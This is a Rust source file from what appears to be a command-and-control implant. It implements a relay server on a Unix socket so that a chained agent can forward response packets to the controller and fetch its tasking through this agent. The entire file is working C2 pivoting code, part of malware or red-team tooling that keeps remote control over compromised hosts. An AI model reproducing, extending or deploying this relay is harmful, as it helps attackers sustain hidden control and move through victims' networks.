//! Relay server (task 70): a Unix-domain socket that lets a chained agent
//! reach the controller through this one.
//!
//! The line protocol is newline-delimited base64. The decoded payload's
//! first byte selects the action: '0' forwards the rest upstream as a
//! response packet, '1' fetches tasking upstream and returns the body, '2'
//! (staging) is answered unsupported. Each reply goes back as one base64
//! line.

use std::path::Path;
use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::net::{UnixListener, UnixStream};
use tokio_util::sync::CancellationToken;

use crate::agent::Agent;
use crate::error::TaskError;
use crate::tasks::TaskKind;
use crate::transport::Transport;

impl Agent {
    /// Task 70: body `"{hop_name}|{socket_path}"`; start the relay server as
    /// a tracked job.
    pub(crate) async fn handle_relay_start(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let (hop_name, socket_path) = data
            .split_once('|')
            .ok_or_else(|| TaskError::Malformed("expected \"hop|socket_path\" relay body".into()))?;
        let socket_path = socket_path.trim().to_string();

        // A stale socket file from a previous run blocks the bind.
        if tokio::fs::metadata(&socket_path).await.is_ok() {
            tokio::fs::remove_file(&socket_path).await?;
        }
        let listener = UnixListener::bind(&socket_path)?;
        tracing::info!(hop = %hop_name, socket = %socket_path, "Relay server listening");

        let transport = Arc::clone(&self.transport);
        self.jobs
            .start(id, "relay", move |cancel| async move {
                run_relay(listener, transport, cancel).await;
            })
            .await?;

        self.responses
            .send(
                TaskKind::RelayStart.code(),
                &format!("relay server started on {socket_path}"),
                id,
            )
            .await?;
        Ok(())
    }
}

/// Accept loop; one task per connection.
async fn run_relay(
    listener: UnixListener,
    transport: Arc<dyn Transport>,
    cancel: CancellationToken,
) {
    loop {
        let accepted = tokio::select! {
            _ = cancel.cancelled() => break,
            accepted = listener.accept() => accepted,
        };
        match accepted {
            Ok((stream, _)) => {
                tokio::spawn(serve_connection(
                    stream,
                    Arc::clone(&transport),
                    cancel.child_token(),
                ));
            }
            Err(e) => {
                tracing::warn!("Relay accept failed: {e}");
                break;
            }
        }
    }

    // Best effort: drop the socket file with the listener.
    if let Ok(addr) = listener.local_addr()
        && let Some(path) = addr.as_pathname().map(Path::to_path_buf)
    {
        let _ = tokio::fs::remove_file(path).await;
    }
}

/// One relayed client: read base64 lines, act, write one base64 reply per
/// line.
async fn serve_connection(
    stream: UnixStream,
    transport: Arc<dyn Transport>,
    cancel: CancellationToken,
) {
    let (read_half, mut write_half) = stream.into_split();
    let mut lines = BufReader::new(read_half).lines();

    loop {
        let line = tokio::select! {
            _ = cancel.cancelled() => return,
            line = lines.next_line() => match line {
                Ok(Some(line)) => line,
                Ok(None) | Err(_) => return,
            },
        };

        let reply = handle_line(&line, transport.as_ref()).await;
        let mut encoded = BASE64.encode(reply);
        encoded.push('\n');
        if write_half.write_all(encoded.as_bytes()).await.is_err() {
            return;
        }
    }
}

/// Decode one relay line and perform its action, returning the raw reply.
async fn handle_line(line: &str, transport: &dyn Transport) -> Vec<u8> {
    let raw = match BASE64.decode(line.trim()) {
        Ok(raw) => raw,
        Err(e) => return format!("malformed relay line: {e}").into_bytes(),
    };

    match raw.first() {
        Some(b'0') => match transport.send(raw[1..].to_vec()).await {
            Ok(()) => b"forwarded".to_vec(),
            Err(e) => format!("relay forward failed: {e}").into_bytes(),
        },
        Some(b'1') => match transport.fetch_tasking().await {
            Ok(tasking) if tasking.status == 200 => tasking.body,
            Ok(tasking) => format!("upstream returned status {}", tasking.status).into_bytes(),
            Err(e) => format!("relay fetch failed: {e}").into_bytes(),
        },
        Some(b'2') => b"staging not supported".to_vec(),
        _ => b"unknown relay action".to_vec(),
    }
}
